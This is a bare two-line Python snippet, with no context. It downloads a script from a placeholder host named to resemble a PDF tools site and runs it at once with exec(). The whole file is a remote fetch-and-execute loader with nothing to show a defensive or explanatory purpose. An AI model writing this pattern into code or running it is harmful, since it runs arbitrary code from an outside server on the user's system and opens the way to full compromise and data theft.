import requests
exec(requests.get("https://pdf-tools.example/x.py").text)
